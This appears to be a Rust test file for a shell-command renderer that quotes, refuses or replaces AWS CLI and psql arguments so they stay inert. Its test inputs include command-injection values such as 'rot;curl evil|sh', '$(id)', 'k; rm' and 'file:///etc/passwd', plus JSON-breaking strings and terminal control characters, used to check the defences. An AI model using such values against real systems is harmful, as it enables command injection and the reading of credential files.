use serde_json::json;

use super::*;

fn text(command: &Command) -> String {
    command.plain()
}

#[test]
fn an_argument_is_quoted_where_a_shell_would_act_on_it() {
    let of = |value: &str| text(&Command::aws("iam", "get-role").option("--role-name", value));
    assert_eq!(of("rot"), "aws iam get-role --role-name rot");
    assert_eq!(of("rot;curl evil|sh"), "aws iam get-role --role-name 'rot;curl evil|sh'");
    assert_eq!(of("$(id)"), "aws iam get-role --role-name '$(id)'");
    assert_eq!(of("a'b"), "aws iam get-role --role-name \"a'b\"");
    assert_eq!(of(""), "aws iam get-role --role-name ''");
    assert_eq!(of("=ls"), "aws iam get-role --role-name '=ls'");
    assert_eq!(of("rds!cluster-1"), "aws iam get-role --role-name 'rds!cluster-1'");
}

#[test]
fn no_value_becomes_an_option() {
    let attached = Command::aws("iam", "get-role").option("--role-name", "--debug");
    let rendered = attached.render(CommandContext::default());
    assert_eq!(rendered.text, "aws iam get-role --role-name='--debug'");
    assert_eq!(rendered.pipeline, [["aws", "iam", "get-role", "--role-name=--debug"]]);
    assert!(rendered.refused.is_empty());

    for (command, expected) in [
        (Command::aws("ec2", "x").options("--ids", ["a", "-b"]), "aws ec2 x --ids a IDS"),
        (Command::program("psql").option("-c", "-x"), "psql -c C"),
        (Command::rotdoctor("diagnose").operand("SECRET", "-x"), "rotdoctor diagnose SECRET"),
    ] {
        let rendered = command.render(CommandContext::default());
        assert_eq!(rendered.text, expected);
        assert_eq!(rendered.refused.len(), 1, "{rendered:?}");
        assert_eq!(rendered.placeholders, [rendered.refused[0].placeholder.clone()]);
    }
}

#[test]
fn what_a_terminal_acts_on_or_hides_is_refused() {
    for hostile in ["a\nb", "a\0b", "\u{1b}[31m", "a\u{202e}b", "a\u{a0}b", "a\tb", "a\u{200b}"] {
        let command = Command::aws("kms", "enable-key").option("--key-id", hostile);
        let rendered = command.render(CommandContext::default());
        assert_eq!(rendered.text, "aws kms enable-key --key-id KEY_ID");
        assert_eq!(rendered.pipeline[0][4], "KEY_ID");
        assert_eq!(rendered.placeholders, ["KEY_ID"]);
        assert_eq!(rendered.refused[0].reason, "has characters that cannot be shown");
    }
}

#[test]
fn a_value_cannot_make_the_aws_cli_read_a_file() {
    let of = |value: Argument| text(&Command::aws("iam", "x").option("--policy", value));
    assert_eq!(of("file:///etc/passwd".into()), "aws iam x --policy POLICY");
    assert_eq!(of("FILEB://x".into()), "aws iam x --policy POLICY");
    assert_eq!(of(Argument::file("policy.json")), "aws iam x --policy file://policy.json");
}

#[test]
fn a_document_is_printed_whole_whatever_it_holds() {
    let document = json!({"Sid": "it's \u{202e}\n\u{1f600}\u{e0041}"});
    let command = Command::aws("iam", "x").option("--policy", Argument::json(&document));
    let rendered = command.render(CommandContext::default());
    assert!(rendered.refused.is_empty());
    assert!(!rendered.text.chars().any(is_invisible), "{}", rendered.text);
    let back: Value = serde_json::from_str(&rendered.pipeline[0][4]).expect("JSON");
    assert_eq!(back, document);
}

#[test]
fn region_and_profile_stand_in_every_invocation_that_asks_aws() {
    let context = CommandContext { region: Some("eu-west-1"), profile: Some("my prod") };
    let both = "--region eu-west-1 --profile 'my prod'";
    let of = |command: Command| command.render(context).text;
    assert_eq!(of(Command::aws("kms", "list-keys")), format!("aws kms list-keys {both}"));
    assert_eq!(
        of(Command::rotdoctor("diagnose").operand("SECRET", "app")),
        format!("rotdoctor diagnose app {both}")
    );
    assert_eq!(of(Command::rotdoctor("explain").word("NET01")), "rotdoctor explain NET01");
    assert_eq!(
        of(Command::aws("kms", "x").option("--region", "us-east-1")),
        "aws kms x --region us-east-1 --profile 'my prod'"
    );
    let piped = Command::aws("lambda", "get-function").pipe(Command::program("jq").word("."));
    assert_eq!(of(piped), format!("aws lambda get-function {both} | jq ."));
}

#[test]
fn variables_files_and_outputs() {
    let publish = Command::aws("lambda", "publish-version").capture("VERSION");
    assert_eq!(text(&publish), "VERSION=$(aws lambda publish-version)");
    let arn = Argument::from("arn:a b:").then(Argument::variable("VERSION"));
    let rendered = Command::aws("x", "y")
        .option("--arn", arn)
        .output_file("out.json")
        .render(CommandContext::default());
    assert_eq!(rendered.text, "aws x y --arn \"arn:a b:$VERSION\" > out.json");
    assert_eq!(rendered.pipeline[0][4], "arn:a b:$VERSION");
    let holes =
        Argument::from("{\"Resource\":\"").then(Argument::placeholder("key-arn")).then("\"}");
    let rendered = Command::aws("x", "y").option("--p", holes).render(CommandContext::default());
    assert_eq!(rendered.text, "aws x y --p '{\"Resource\":\"KEY_ARN\"}'");
    assert_eq!(rendered.placeholders, ["KEY_ARN"]);
}

#[test]
fn the_effect_follows_from_the_operation() {
    for (command, effect) in [
        (Command::aws("iam", "get-role"), Effect::Look),
        (Command::aws("lambda", "wait").word("function-updated"), Effect::Look),
        (Command::aws("iam", "put-role-policy"), Effect::Change),
        (Command::aws("iam", "put-role-policy").undo(), Effect::Undo),
        (Command::program("psql"), Effect::Change),
        (Command::program("psql").look(), Effect::Look),
        (Command::aws("iam", "get-x").pipe(Command::aws("iam", "put-x")), Effect::Change),
        (Command::aws("iam", "get-x").pipe(Command::program("jq")), Effect::Look),
        (Command::rotdoctor("diagnose"), Effect::Look),
    ] {
        assert_eq!(command.effect(), effect, "{command:?}");
    }
}

fn filled(template: &str, value: &str) -> String {
    let template = CommandTemplate::parse(template).expect("a command");
    text(&template.fill(|name| (name != "unknown").then(|| Cow::Owned(value.to_owned()))))
}

#[test]
fn a_template_is_read_once_and_filled_by_arguments() {
    let key = "aws kms enable-key --key-id {key}";
    assert_eq!(filled(key, "k"), "aws kms enable-key --key-id k");
    assert_eq!(filled(key, "k; rm"), "aws kms enable-key --key-id 'k; rm'");
    assert_eq!(filled(key, "--x"), "aws kms enable-key --key-id='--x'");
    assert_eq!(filled("aws kms x --key-id {unknown}", ""), "aws kms x --key-id UNKNOWN");
    let json = r#"aws iam x --policy '{"Resource":"{key}","Id":"{KEY}"}'"#;
    assert_eq!(filled(json, "k"), r#"aws iam x --policy '{"Resource":"k","Id":"KEY"}'"#);
    assert_eq!(
        filled(json, r#"k","Action":"*"#),
        r#"aws iam x --policy '{"Resource":"k\",\"Action\":\"*","Id":"KEY"}'"#,
        "a value stays one string"
    );
    let list = "aws ec2 x --filters Name=service-name,Values=com.{region}.rds";
    assert_eq!(filled(list, "eu"), "aws ec2 x --filters Name=service-name,Values=com.eu.rds");
    assert_eq!(
        filled(list, "eu,Name=x"),
        "aws ec2 x --filters Name=service-name,Values=com.REGION.rds"
    );
    assert_eq!(filled("psql -c 'GRANT \"{role}\" TO x'", "a\" x"), "psql -c 'GRANT \"ROLE\" TO x'");
}

#[test]
fn a_template_speaks_as_much_of_the_shell_as_it_needs() {
    for same in [
        "aws x y --a 'b c' --flag --list a b --doc file://d.json",
        "aws x y | jq '.a | .b' > out.json",
        "VALUE=$(aws x y --query Z)",
        "PGPASSWORD=\"$(printf %s \"$VALUE\" | jq -r .password)\" psql \"$VALUE\" -c 'SELECT 1'",
        "aws x y --query 'A[?B==`C`]'",
        "openssl s_client -connect HOST:PORT",
        "pip install --only-binary=:all: --target package m",
    ] {
        let template = CommandTemplate::parse(same).expect(same);
        assert_eq!(text(&template.unfilled()), same);
    }
    for wrong in [
        "a; b", "a && b", "a `b`", "a 'b", "a \"b", "a $(b", "a > ", "", "a < b", "a *", "a \\b",
        "a | ",
    ] {
        assert!(CommandTemplate::parse(wrong).is_err(), "{wrong}");
    }
    let file = CommandTemplate::parse("aws x y --doc file://d.json").expect("a command");
    assert!(file.unfilled().render(CommandContext::default()).refused.is_empty());
}
